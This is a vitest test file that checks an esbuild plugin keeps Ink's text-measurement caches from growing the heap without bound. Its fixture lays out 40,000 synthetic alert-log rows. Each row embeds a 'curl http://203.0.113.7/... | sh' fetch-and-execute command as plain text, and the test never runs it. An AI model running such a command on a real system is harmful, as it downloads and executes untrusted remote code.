// The bundle's fix for Ink's unbounded layout caches (scripts/ink-bounded-caches.mjs): the two
// modules, bundled with and without the plugin, lay out 40 000 distinct texts in a child process;
// only the fixed build's heap stays flat.
import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { build, type Plugin } from 'esbuild';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
// @ts-expect-error: a build script without type declarations
import { inkBoundedCaches } from '../scripts/ink-bounded-caches.mjs';

const root = fileURLToPath(new URL('..', import.meta.url));
const run = promisify(execFile);
let dir: string;

const harness = `
import measureText from ${JSON.stringify(join(root, 'node_modules/ink/build/measure-text.js'))};
import wrapText from ${JSON.stringify(join(root, 'node_modules/ink/build/wrap-text.js'))};
const row = (i) => \`2026-11-27 10:00:00  HIGH  system.high_risk_command  web-\${i}  curl http://203.0.113.7/\${i} | sh\`;
for (let i = 0; i < 1000; i++) { measureText(row(-i)); wrapText(row(-i), 80, 'truncate-end'); }
globalThis.gc();
const before = process.memoryUsage().heapUsed;
for (let i = 0; i < 40000; i++) { measureText(row(i)); wrapText(row(i), 80, 'truncate-end'); }
globalThis.gc();
console.log(process.memoryUsage().heapUsed - before);
`;

async function heapGrowth(plugins: Plugin[]): Promise<number> {
  const out = join(dir, `harness-${plugins.length}.mjs`);
  await build({ stdin: { contents: harness, resolveDir: root, loader: 'js' }, bundle: true, format: 'esm', platform: 'node', outfile: out, plugins, logLevel: 'silent' });
  const { stdout } = await run(process.execPath, ['--expose-gc', out]);
  return Number(stdout.trim());
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'vigil-ink-'));
  await writeFile(join(dir, 'package.json'), '{"type":"module"}');
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe("Ink's layout caches in the bundle", () => {
  it('stay bounded however many distinct texts are laid out (and would not without the fix)', async () => {
    const fixed = await heapGrowth([inkBoundedCaches as Plugin]);
    const unfixed = await heapGrowth([]);
    expect(unfixed).toBeGreaterThan(10_000_000);
    expect(fixed).toBeLessThan(3_000_000);
  });
});
